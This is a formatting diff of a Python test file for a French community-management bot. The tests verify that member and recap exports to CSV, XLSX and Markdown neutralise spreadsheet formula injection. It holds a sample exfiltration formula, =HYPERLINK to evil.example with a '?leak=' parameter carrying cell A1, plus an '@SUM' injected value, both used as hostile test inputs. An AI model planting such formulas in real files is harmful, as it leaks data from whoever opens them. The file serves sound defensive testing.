@@ -21,7 +21,7 @@ from tests.formula_payloads import FORMULA_PAYLOADS
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")'
 
 
-def _last(result):  # noqa: ANN001, ANN202
+def _last(result):
     out = [result.response] if result.response is not None else []
     out += list(result.followups)
     return [m for m in out if m.content or m.attachments][-1]
@@ -39,7 +39,7 @@ def _assert_no_formula_cell(rows: list[list[str]]) -> None:
             assert not cell.lstrip(" \u00a0\n\t\r").startswith(S.FORMULA_TRIGGERS), cell
 
 
-def _assert_no_formula_in_workbook(workbook) -> int:  # noqa: ANN001
+def _assert_no_formula_in_workbook(workbook) -> int:
     strings = 0
     for sheet in workbook.worksheets:
         for row in sheet.iter_rows():
@@ -53,7 +53,11 @@ async def test_member_export_neutralises_every_payload(profiles, db: Database) -
     w = profiles
     for i, payload in enumerate(FORMULA_PAYLOADS):
         added = await w.coordinator.slash(
-            w.general, "membres ajouter", nom=f"Personne {i:02d}", territoire="63", volet="youth",
+            w.general,
+            "membres ajouter",
+            nom=f"Personne {i:02d}",
+            territoire="63",
+            volet="youth",
             structure=payload,
         )
         assert "est ajouté·e à l'annuaire" in added.response.content, payload
@@ -64,7 +68,18 @@ async def test_member_export_neutralises_every_payload(profiles, db: Database) -
     attachment = export.response.attachments[0]
     assert attachment.filename == "annuaire-2027-06-14.csv"
     rows = _csv(await attachment.read())
-    assert rows[0] == ["id", "nom", "sur_discord", "territoire", "volet", "structure", "type_structure", "metier", "arrivee", "depart"]
+    assert rows[0] == [
+        "id",
+        "nom",
+        "sur_discord",
+        "territoire",
+        "volet",
+        "structure",
+        "type_structure",
+        "metier",
+        "arrivee",
+        "depart",
+    ]
     _assert_no_formula_cell(rows)
     async with db.transaction() as session:
         stored = {m.display_name: m.structure_name for m in await session.scalars(select(Member))}
@@ -88,9 +103,13 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
         writer.writerow([year, "", indicator, "1 234" if indicator == "promeneurs" else "12", payload])
     data = out.getvalue().encode("utf-8-sig")  # Excel "CSV UTF-8"
     done = await w.coordinator.slash(w.general, "bilan importer", fichier=("historique.csv", data))
-    assert _last(done).content.startswith(f"Import réussi : {len(FORMULA_PAYLOADS)} chiffres pour 2018, 2019, 2020, 2021, 2022")
+    assert _last(done).content.startswith(
+        f"Import réussi : {len(FORMULA_PAYLOADS)} chiffres pour 2018, 2019, 2020, 2021, 2022"
+    )
     await w.alice.slash(w.general, "activite ajouter", type="presentation", quantite=2, date="12/03/2027")
-    await w.coordinator.slash(w.general, "activite ajouter", type="coordination", quantite=30, territoire="63", date="01/02/2027")
+    await w.coordinator.slash(
+        w.general, "activite ajouter", type="coordination", quantite=30, territoire="63", date="01/02/2027"
+    )
     await w.coordinator.slash(w.general, "activite ajouter", type="coordination", quantite=10.5, date="01/02/2027")
     async with db.transaction() as session:
         notes = {(f.year, f.indicator): f.note for f in await session.scalars(select(ImportedFigure))}
@@ -101,7 +120,14 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     workbook = load_workbook(io.BytesIO(await attachment.read()))
     assert _assert_no_formula_in_workbook(workbook) > 0  # the hostile text is there, as text
     synthesis = workbook["Synthèse 2027"]
-    assert [c.value for c in synthesis[1]] == ["Indicateur", "03 Allier", f"15 {HYPERLINK}", "63 Puy-de-Dôme", "Commun", "Ensemble des territoires"]
+    assert [c.value for c in synthesis[1]] == [
+        "Indicateur",
+        "03 Allier",
+        f"15 {HYPERLINK}",
+        "63 Puy-de-Dôme",
+        "Commun",
+        "Ensemble des territoires",
+    ]
     assert synthesis["C1"].data_type == "s"
     data_sheet = workbook["Données"]
     by_key = {(r[0].value, r[1].value, r[2].value): r for r in data_sheet.iter_rows(min_row=2)}
@@ -119,10 +145,17 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     assert (cell_2027.data_type, cell_2027.value, cell_2027.number_format) == ("n", 2, "#,##0")
     activities = {r[0].value: r for r in workbook["Activités"].iter_rows(min_row=2)}
     coordination_total = activities["Coordination (h)"][-1]
-    assert (coordination_total.data_type, coordination_total.value, coordination_total.number_format) == ("n", 40.5, '#,##0.0" h"')
+    assert (coordination_total.data_type, coordination_total.value, coordination_total.number_format) == (
+        "n",
+        40.5,
+        '#,##0.0" h"',
+    )
     presentations = activities["Présentations"][-1]
     assert (presentations.value, presentations.number_format) == (2, "#,##0")
-    split = {r[0].value: (r[1].value, r[1].number_format, round(r[2].value, 6), r[2].number_format) for r in workbook["Coordination"].iter_rows(min_row=2)}
+    split = {
+        r[0].value: (r[1].value, r[1].number_format, round(r[2].value, 6), r[2].number_format)
+        for r in workbook["Coordination"].iter_rows(min_row=2)
+    }
     assert split["63 Puy-de-Dôme"] == (30, '#,##0" h"', round(30 / 40.5, 6), '0"\u00a0"%')
     assert split["Commun"] == (10.5, '#,##0.0" h"', round(10.5 / 40.5, 6), '0"\u00a0"%')
 
@@ -133,7 +166,10 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     rendered = MarkdownIt("gfm-like", {"linkify": True}).render(markdown)
     assert "<a " not in rendered and "<img" not in rendered and "<code" not in rendered
     assert "<h3>15 =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</h3>" in rendered
-    assert "<li>2018, Promeneurs\u00a0: =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>" in rendered
+    assert (
+        "<li>2018, Promeneurs\u00a0: =HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;clic&quot;)</li>"
+        in rendered
+    )
 
     csv_result = await w.coordinator.slash(w.general, "bilan export", annee=2027, format="csv")
     exported = await _last(csv_result).attachments[0].read()
@@ -195,14 +231,23 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
         other = vobject.readOne(data.decode("utf-8")).vevent
         assert "METHOD" not in calendar and "ORGANIZER" not in event
         assert (str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"])) == (
-            other.uid.value, other.status.value, int(other.sequence.value)
+            other.uid.value,
+            other.status.value,
+            int(other.sequence.value),
         )
         assert str(event["SUMMARY"]) == other.summary.value
         return str(event["UID"]), str(event["STATUS"]), int(event["SEQUENCE"]), other.dtstart.value
 
     await w.coordinator.slash(
-        w.general, "evenement creer", titre="Café\u00a0; numérique, «\u00a0écrans\u00a0»", type="thematic_training",
-        debut="22/06/2027 9h30", fin="16h30", format="in_person", lieu="Centre social, Riom", territoire="63",
+        w.general,
+        "evenement creer",
+        titre="Café\u00a0; numérique, «\u00a0écrans\u00a0»",
+        type="thematic_training",
+        debut="22/06/2027 9h30",
+        fin="16h30",
+        format="in_person",
+        lieu="Centre social, Riom",
+        territoire="63",
     )
     created = await current_ics()
     assert created[1:3] == ("CONFIRMED", 0)
@@ -236,7 +281,9 @@ async def test_import_files_saved_by_french_spreadsheets(profiles, db: Database)
         done = await w.coordinator.slash(w.general, "bilan importer", fichier=(name, (files / name).read_bytes()))
         assert _last(done).content.startswith("Import réussi : 4 chiffres pour 2019 ("), name
     async with db.transaction() as session:
-        stored = {(f.territory_code, f.indicator): (f.value, f.note) for f in await session.scalars(select(ImportedFigure))}
+        stored = {
+            (f.territory_code, f.indicator): (f.value, f.note) for f in await session.scalars(select(ImportedFigure))
+        }
     assert stored == {
         ("", "promeneurs"): (1234, None),
         ("63", "reunions"): (12, "dont 1 visio, réunion à Vichy"),
@@ -250,7 +297,12 @@ async def test_member_export_as_a_spreadsheet_keeps_codes_and_dates(profiles) ->
 
     w = profiles
     await w.coordinator.slash(
-        w.general, "membres ajouter", nom=HYPERLINK, territoire="03", volet="youth", structure="@SUM(1+1)",
+        w.general,
+        "membres ajouter",
+        nom=HYPERLINK,
+        territoire="03",
+        volet="youth",
+        structure="@SUM(1+1)",
         arrivee="01/09/2020",
     )
     export = await w.coordinator.slash(w.general, "membres export", format="xlsx")
